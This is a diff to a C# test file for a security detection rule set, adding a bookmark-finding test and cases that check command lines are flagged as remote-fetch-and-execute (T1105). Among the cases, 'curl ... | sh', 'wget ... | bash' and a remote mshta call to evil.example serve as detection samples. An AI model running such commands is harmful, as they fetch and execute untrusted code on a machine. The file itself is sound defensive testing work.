@@ -25,6 +25,27 @@ public sealed class HostSummaryRuleTests
             Assert.That(findings[0].Title, Does.Contain("Odd logon").And.Contain("SRV-FIN01"));
     }
 
+    [Test]
+    public async Task Bookmarks_are_a_word_with_their_names()
+    {
+        var findings = await HostSummaryRun.FindingsAsync("RelatedBookmarks", TestTable.Of("BookmarkName", ["Odd service"], ["Odd service"], ["Night logon"]));
+
+        Assert.That(findings.Select(f => (f.Severity, f.Step, f.Title)), Is.EqualTo(new[] { (Severity.Informational, "related_bookmarks", "Analysts have bookmarked SRV-FIN01: Odd service, Night logon.") }));
+        Assert.That(findings[0].Rows, Is.EqualTo(new[] { 0L, 1L, 2L }));
+        Assert.That(await HostSummaryRun.FindingsAsync("RelatedBookmarks", TestTable.Of("BookmarkName")), Is.Empty);
+    }
+
+    [TestCase("curl -s http://evil.example/x | sh", true)]
+    [TestCase("sh -c \"wget -qO- http://evil.example/x | bash\"", true)]
+    [TestCase("mshta.exe http://evil.example/a.hta", true)]
+    [TestCase("curl -s https://updates.example/list -o /var/lib/app/list", false)]
+    [TestCase("curl -s https://status.example/health | grep ok", false)]
+    [TestCase("powershell.exe -Command Invoke-WebRequest https://updates.example/a.msi -OutFile C:\\Updates\\a.msi", false)]
+    [TestCase("certutil.exe -hashfile C:\\Windows\\notepad.exe SHA256", false)]
+    [TestCase("mshta.exe C:\\Program Files\\Vendor\\help.hta", false)]
+    public async Task A_process_counts_when_it_runs_what_it_fetches(string commandLine, bool expected) =>
+        AssertTechnique(await ProcessAsync(commandLine), expected ? "T1105" : null);
+
     [TestCase(1102L, "T1070.001")]
     [TestCase(4719L, "T1562.002")]
     [TestCase(4657L, null)]
